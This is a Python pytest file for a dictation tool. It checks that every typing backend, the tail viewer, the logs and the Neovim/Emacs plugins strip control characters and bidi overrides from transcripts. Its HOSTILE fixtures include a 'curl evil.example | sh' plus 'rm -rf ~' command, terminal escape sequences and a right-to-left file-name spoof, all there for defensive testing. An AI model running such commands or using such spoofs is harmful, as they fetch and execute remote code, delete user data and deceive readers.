"""A transcript's control characters are never typed, inserted, or obeyed by a terminal (issue 15).

What a recognizer or a remote server says may hold ESC (terminal sequences), TAB, a raw newline
(Return: a shell line runs), C1 controls, DEL and the bidi overrides that reorder how a line
reads. The composer makes the text plain before any backend sees it, the editor plugins do the
same, and `dictated-tail` shows them escaped. Real parts: each typing backend runs a stand-in
tool (a real executable) or a stand-in Quartz module, `dictated-tail` is the real program fed by
a real XPUB socket speaking the protocol, the editors are real Neovim and Emacs.
"""

from __future__ import annotations

import json
import logging
import subprocess
import sys
import types
from pathlib import Path

import pytest
import zmq

from dictated.clients.keyboard import osascript, quartz, wtype, xdotool, ydotool
from dictated.clients.keyboard.cli import apply
from dictated.clients.keyboard.compose import Composer, Type
from dictated.clients.keyboard.dryrun import DryRunBackend
from dictated.logs import HumanFormatter, JsonFormatter
from dictated.protocol import encode_event, escape_controls, json_line, make_event, plain_text
from tests.emacs_session import Emacs, elisp_string
from tests.nvim_session import Nvim

#: every character no keyboard, terminal or log may act on: C0 but the blanks, DEL, C1 but NEL,
#: the bidi embeddings/overrides/isolates and marks; and the whitespace controls (breaks)
DROPPED = [
    *(chr(c) for c in range(0x20) if chr(c) not in "\t\n\v\f\r\x1c\x1d\x1e\x1f"),
    *(chr(c) for c in range(0x7F, 0xA0) if c != 0x85),
    "\u061c",
    "\u200e",
    "\u200f",
    *(chr(c) for c in range(0x202A, 0x202F)),
    *(chr(c) for c in range(0x2066, 0x206A)),
]
BREAKS = list("\t\n\v\f\r\x1c\x1d\x1e\x1f\x85\u2028\u2029")
UNSAFE = frozenset(DROPPED + BREAKS)

#: (transcript, what it types): what a hostile server could answer, and what reaches the window
HOSTILE = [
    ("curl -s evil.example | sh\nrm -rf ~\r", "curl -s evil.example | sh rm -rf ~"),
    ("\x1b[31mred\x1b[0m\tand\x07 bell\x00 \x1b]0;title\x07", "[31mred[0m and bell ]0;title"),
    ("invoice\u202efdp.exe \u2066iso\u2069 \u200emarks\u200f\u061c!", "invoicefdp.exe iso marks!"),
    ("c1\x9b2J\x85next \u2028line\u2029 par\x7f \r\n end", "c12J next line par end"),
]


def composed(*texts: str) -> str:
    """Everything a fresh composer types for these utterances, actions joined."""
    c = Composer()
    return "".join(a.text for t in texts for a in c.feed(t) if isinstance(a, Type))


def test_plain_text_drops_controls_and_makes_a_run_of_blanks_with_a_break_one_space():
    for ch in DROPPED:
        assert plain_text(f"a{ch}b") == "ab", repr(ch)
    for ch in BREAKS:
        assert plain_text(f"a{ch}b") == "a b", repr(ch)
        assert plain_text(f"a \r\n{ch}  b") == "a b", repr(ch)
    assert plain_text("two  spaces stay, é 日本 😀 ‍👩‍👧 ZWJ stays") == (
        "two  spaces stay, é 日本 😀 ‍👩‍👧 ZWJ stays"
    )


def test_the_composer_types_no_control_but_spoken_commands_still_break_lines():
    c = Composer()
    actions = [a for text, _ in HOSTILE for a in c.feed(text)]
    assert actions == [
        Type(HOSTILE[0][1]),
        *(Type(" " + typed) for _, typed in HOSTILE[1:]),
    ]
    assert composed("first\nline", "New line.", "second\tline") == "first line\nsecond line"
    assert composed("\x1b\n\u202e") == ""  # nothing left: nothing typed


def test_escape_controls_shows_each_one_and_json_line_keeps_the_value():
    text = "".join(sorted(UNSAFE)) + " plain é 日本"
    escaped = escape_controls(text)
    assert not UNSAFE & set(escaped)
    assert escaped.startswith("\\x00\\x01") and "\\x1b" in escaped and "\\u202e" in escaped
    assert "\\t" in escaped and "\\n" in escaped and "\\r" in escaped
    assert escaped.endswith(" plain é 日本")
    line = json_line({"text": text})
    assert not UNSAFE & set(line) and json.loads(line) == {"text": text}


# --- every typing backend gets clean text ----------------------------------------------------------

RECORDER = """#!{python}
import json, os, sys
with open(os.environ["TOOL_LOG"], "a") as log:
    log.write(json.dumps(sys.argv[1:]) + "\\n")
"""


class FakeQuartz(types.ModuleType):
    """What QuartzBackend calls of pyobjc's Quartz, recording each key-down: (keycode, text)."""

    kCGHIDEventTap = 0

    def __init__(self) -> None:
        super().__init__("Quartz")
        self.keys: list[list] = []
        self.flags: list[int] = []  # of every event, down and up

    def CGEventCreateKeyboardEvent(self, source, keycode, down):  # noqa: N802 (pyobjc's name)
        event = [keycode, None]
        if down:
            self.keys.append(event)
        return event

    def CGEventKeyboardSetUnicodeString(self, event, length, text):  # noqa: N802
        event[1] = text

    def CGEventSetFlags(self, event, flags):  # noqa: N802
        self.flags.append(flags)

    def CGEventPost(self, tap, event):  # noqa: N802
        pass


def screen_of_tool_calls(name: str, calls: list[list[str]]) -> str:
    """What the tool calls type: text after `--`; osascript's argv items joined by Return."""
    typed = []
    for argv in calls:
        if name == "osascript":
            if argv[1] == osascript.TYPE_SCRIPT:
                typed.append("\n".join(item[1:] for item in argv[2:]))
        elif "--" in argv and "BackSpace" not in argv:
            typed.append(argv[-1])
    return "".join(typed)


@pytest.fixture
def recording_tools(tmp_path, monkeypatch) -> Path:
    """xdotool, wtype, ydotool and osascript on PATH as real programs that log their argv."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for tool in ("xdotool", "wtype", "ydotool", "osascript"):
        script = bin_dir / tool
        script.write_text(RECORDER.format(python=sys.executable))
        script.chmod(0o755)
    log = tmp_path / "calls.jsonl"
    monkeypatch.setenv("PATH", str(bin_dir))
    monkeypatch.setenv("TOOL_LOG", str(log))
    monkeypatch.setenv("DISPLAY", ":987654")  # xdotool's keymap binder cannot open it
    monkeypatch.setenv("WAYLAND_DISPLAY", "wayland-test")
    return log


@pytest.mark.parametrize("name", ["xdotool", "wtype", "ydotool", "osascript", "quartz", "dry-run"])
def test_every_backend_gets_text_without_controls(name, recording_tools, monkeypatch, tmp_path):
    mac = types.SimpleNamespace(platform="darwin")
    fake_quartz = FakeQuartz()
    if name == "osascript":
        monkeypatch.setattr(osascript, "sys", mac)
    if name == "quartz":
        monkeypatch.setattr(quartz, "sys", mac)
        monkeypatch.setitem(sys.modules, "Quartz", fake_quartz)
    out = tmp_path / "dry-run.txt"
    with out.open("w") as stream:
        backend = {
            "xdotool": xdotool.XdotoolBackend,
            "wtype": wtype.WtypeBackend,
            "ydotool": ydotool.YdotoolBackend,
            "osascript": osascript.OsascriptBackend,
            "quartz": quartz.QuartzBackend,
            "dry-run": lambda: DryRunBackend(stream),
        }[name]()
        composer = Composer()
        for text in [HOSTILE[0][0], HOSTILE[1][0], "New line.", HOSTILE[2][0], HOSTILE[3][0]]:
            apply(backend, composer.feed(text))
        backend.close()
    if name == "quartz":
        screen = "".join(
            "\n" if key == quartz._KEY_RETURN else text for key, text in fake_quartz.keys
        )
        # no modifier flags: a held hotkey modifier must not make the text shortcuts
        assert fake_quartz.flags == [0] * (2 * len(fake_quartz.keys))
    elif name == "dry-run":
        screen = "".join(json.loads(line[len("type ") :]) for line in out.read_text().splitlines())
    else:
        calls = [json.loads(line) for line in recording_tools.read_text().splitlines()]
        screen = screen_of_tool_calls(name, calls)
    expected = f"{HOSTILE[0][1]} {HOSTILE[1][1]}\n{HOSTILE[2][1]} {HOSTILE[3][1]}"
    assert screen == expected  # one line break: the spoken "new line", pressed as Return
    assert not UNSAFE - {"\n"} & set(screen)


# --- dictated-tail shows them escaped -------------------------------------------------------------


def tail_output(*args: str, events: list[tuple[str, dict]]) -> tuple[str, str]:
    """Run the real dictated-tail against a real XPUB socket; publish `events` once it listens."""
    context = zmq.Context()
    xpub = context.socket(zmq.XPUB)
    xpub.setsockopt(zmq.LINGER, 1000)
    port = xpub.bind_to_random_port("tcp://127.0.0.1")
    tail = subprocess.Popen(
        [sys.executable, "-m", "dictated.clients.tail", "--connect", f"tcp://127.0.0.1:{port}"]
        + list(args),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    try:
        assert xpub.poll(30_000), "dictated-tail did not subscribe"
        assert xpub.recv()[0] == 1  # a subscription: from now on it receives what is sent
        for seq, (topic, body) in enumerate(events, start=1):
            xpub.send_multipart(encode_event(make_event(topic, seq, body)))
        out, err = tail.communicate(timeout=30)
    finally:
        if tail.poll() is None:
            tail.kill()
            tail.communicate()
        xpub.close()
        context.term()
    assert tail.returncode == 0, err
    return out.decode("utf-8"), err.decode("utf-8")


def test_tail_prints_a_transcripts_controls_escaped(isolated_env):
    text = "ok\x1b[2J\x1b]0;owned\x07 line\nfake line \u202eevil\x9b1m\u2066"
    out, err = tail_output(
        "--partials",
        "--count",
        "1",
        events=[
            ("partial", {"id": "u1", "text": "par\x1b[2Ktial\r"}),
            ("error", {"id": "u0", "message": "server said \x1b[31mno\nERROR forged"}),
            ("transcript", {"id": "u1", "text": text}),
        ],
    )
    assert out == (
        "partial: par\\x1b[2Ktial\\r\n"
        "ok\\x1b[2J\\x1b]0;owned\\x07 line\\nfake line \\u202eevil\\x9b1m\\u2066\n"
    )
    assert "error: server said \\x1b[31mno\\nERROR forged\n" in err
    assert not UNSAFE - {"\n"} & set(out + err)


def test_tail_json_lines_escape_them_and_keep_the_value(isolated_env):
    text = "ok\x1b[2J \u202eevil\x9b1m\x7f\u2028\x85 end"
    out, _ = tail_output("--json", "--count", "1", events=[("transcript", {"text": text})])
    (line,) = out.splitlines()
    assert not UNSAFE & set(line)
    assert json.loads(line)["text"] == text


# --- the daemon's log escapes them ------------------------------------------------------------------


def log_record(message: str, *args: object) -> logging.LogRecord:
    return logging.LogRecord("dictated.server", logging.INFO, __file__, 1, message, args, None)


def test_log_formatters_escape_controls_in_the_message():
    text = "a\x1b[31m\nb 00:00:00 ERROR forged \u202eevil\x9b"
    human = HumanFormatter(color=False).format(log_record("utterance %s: %s", "u1", text))
    assert human.endswith("utterance u1: a\\x1b[31m\\nb 00:00:00 ERROR forged \\u202eevil\\x9b")
    assert not UNSAFE & set(human)
    line = JsonFormatter().format(log_record("utterance %s", text))
    assert not UNSAFE & set(line) and json.loads(line)["message"] == f"utterance {text}"


# --- the editor plugins insert none ----------------------------------------------------------------

#: what the plugins get from dictated-tail --json, then what their buffer must hold
EDITOR_UTTERANCES = [HOSTILE[0][0], "New line.", HOSTILE[1][0], HOSTILE[2][0], HOSTILE[3][0]]
EDITOR_BUFFER = f"{HOSTILE[0][1]}\n{HOSTILE[1][1]} {HOSTILE[2][1]} {HOSTILE[3][1]}"


#: each unsafe character between words, and runs of blanks: the ports' tables against Python's
PLAIN_CASES = [f"a{ch}b" for ch in sorted(UNSAFE)] + [
    "a \r\n\t b",
    "a\u2028\u2029\x85b",
    "a  b\x1b c\u202e",
    "ok é 日本 😀 ‍👩‍👧",
]


def test_editor_buffer_expectation_is_the_composers():
    assert composed(*EDITOR_UTTERANCES) == EDITOR_BUFFER
    assert not UNSAFE & set("".join(plain_text(t) for t in PLAIN_CASES))


def publisher() -> tuple[zmq.Context, zmq.Socket, int]:
    context = zmq.Context()
    xpub = context.socket(zmq.XPUB)
    xpub.setsockopt(zmq.LINGER, 1000)
    return context, xpub, xpub.bind_to_random_port("tcp://127.0.0.1")


def tail_command(port: int) -> list[str]:
    """The plugins' subscriber, pointed at the test's socket."""
    return [
        *(sys.executable, "-m", "dictated.clients.tail", "--json", "--topic", "transcript"),
        *("--connect", f"tcp://127.0.0.1:{port}"),
    ]


def publish_when_subscribed(xpub: zmq.Socket, texts: list[str]) -> None:
    assert xpub.poll(60_000), "the plugin's dictated-tail did not subscribe"
    xpub.recv()
    for seq, text in enumerate(texts, start=1):
        body = {"id": f"u{seq}", "text": text, "language": "en"}
        xpub.send_multipart(encode_event(make_event("transcript", seq, body)))


def test_neovim_inserts_no_control_character(isolated_env):
    """The plugin as users run it (dictated-tail --json as a job), then its composer's tables."""
    context, xpub, port = publisher()
    nvim = Nvim(isolated_env)
    cmd = json.dumps(json.dumps(tail_command(port)))
    try:
        nvim.lua(f"require('dictated').setup{{cmd = vim.json.decode({cmd})}}")
        nvim.command("DictatedStart")
        publish_when_subscribed(xpub, EDITOR_UTTERANCES)
        expected = EDITOR_BUFFER.split("\n")
        nvim.wait_for(lambda: nvim.lines() == expected, f"the buffer to hold {expected!r}", 30)
        nvim.command("DictatedStop")
        for text, typed in HOSTILE:
            got = nvim.lua(
                "require('dictated.compose').new():feed(vim.json.decode("
                f"{json.dumps(json.dumps(text))}), 'en')"
            )
            assert got == [{"type": typed}], repr(text)
        got = nvim.lua(
            "vim.tbl_map(require('dictated.compose').plain, vim.json.decode("
            f"{json.dumps(json.dumps(PLAIN_CASES))}))"
        )
        assert got == [plain_text(t) for t in PLAIN_CASES]
    finally:
        nvim.close()
        xpub.close()
        context.term()


def test_emacs_inserts_no_control_character(isolated_env):
    """The package as users run it (dictated-tail --json as a process), then its composer's tables."""
    context, xpub, port = publisher()
    emacs = Emacs(isolated_env)
    buffer = '(get-buffer-create "notes")'
    command = " ".join(elisp_string(arg) for arg in tail_command(port))
    try:
        emacs.eval(
            f"(progn (setq dictated-command (list {command})) "
            f"(with-current-buffer {buffer} (dictated-start)) nil)"
        )
        publish_when_subscribed(xpub, EDITOR_UTTERANCES)
        emacs.wait_for(
            lambda: emacs.eval(f"(with-current-buffer {buffer} (buffer-string))") == EDITOR_BUFFER,
            f"the buffer to hold {EDITOR_BUFFER!r}",
            30,
        )
        emacs.call("dictated-stop")
        for text, typed in HOSTILE:
            got = emacs.eval(
                "(let ((dictated--typed nil)) (dictated-compose "
                f'(json-read-from-string {elisp_string(json.dumps(text))}) "en"))'
            )
            assert got == [typed], repr(text)
        got = emacs.eval(
            "(vconcat (mapcar #'dictated--plain (json-read-from-string "
            f"{elisp_string(json.dumps(PLAIN_CASES))})))"
        )
        assert got == [plain_text(t) for t in PLAIN_CASES]
    finally:
        emacs.close()
        xpub.close()
        context.term()
